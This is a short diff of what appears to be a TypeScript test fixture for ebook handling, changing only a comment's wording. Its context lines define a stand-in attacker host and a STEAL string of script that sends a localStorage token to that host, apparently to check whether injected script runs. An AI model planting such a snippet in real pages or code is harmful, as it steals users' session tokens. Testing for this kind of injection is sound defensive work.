@@ -1,6 +1,6 @@
 import { epub } from './ebooks.ts'
 
-/** Nobody answers there; a request for it would be seen by the browser all the same. */
+/** No handler for there; a request for it would be seen by the browser all the same. */
 export const EVIL = 'https://evil.example'
 
 const STEAL = `fetch('${EVIL}/?' + localStorage.getItem('token')); top.stolen = true`
